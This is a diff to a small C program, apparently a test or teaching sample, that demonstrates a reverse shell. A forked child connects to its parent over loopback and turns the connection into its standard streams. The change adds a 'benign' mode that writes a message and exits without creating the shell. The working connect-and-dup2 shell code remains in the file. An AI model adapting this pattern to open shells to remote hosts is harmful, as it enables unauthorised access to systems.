@@ -1,8 +1,10 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * A reverse shell: connects out, makes the connection its standard streams and
- * becomes a shell. The other end is its own parent, on the loopback interface, which
- * sends one harmless command and reads the answer. Ends by itself within 20 s.
+ * shows: reverse shell | a connection is made the standard streams of a shell
+ * beside: the connection is used by the program itself
+ *
+ * The other end is its own parent, on the loopback interface, which sends one harmless
+ * command and reads the answer. Ends by itself within 20 s.
  */
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -13,7 +15,7 @@
 #include <unistd.h>
 
 /* What the victim runs: never returns. */
-static void become_a_shell(const struct sockaddr_in *address)
+static void become_a_shell(const struct sockaddr_in *address, int benign)
 {
 	int fd;
 
@@ -22,6 +24,8 @@ static void become_a_shell(const struct sockaddr_in *address)
 	if (fd < 0 || connect(fd, (const struct sockaddr *)address,
 			      sizeof(*address)) < 0)
 		_exit(1);
+	if (benign)
+		_exit(write(fd, "no shell here\n", 14) != 14);
 	for (int stream = 0; stream < 3; stream++)
 		if (dup2(fd, stream) < 0)
 			_exit(1);
@@ -47,7 +51,7 @@ static int give_a_command(int fd)
 	return 0;
 }
 
-int main(void)
+int main(int argc, char **argv)
 {
 	struct sockaddr_in address = { .sin_family = AF_INET };
 	socklen_t size = sizeof(address);
@@ -62,7 +66,8 @@ int main(void)
 	    getsockname(listener, (struct sockaddr *)&address, &size) < 0)
 		return 1;
 	if (fork() == 0)
-		become_a_shell(&address);
+		become_a_shell(&address,
+			       argc > 1 && strcmp(argv[1], "benign") == 0);
 	fd = accept(listener, NULL, NULL);
 	if (fd < 0)
 		return 1;
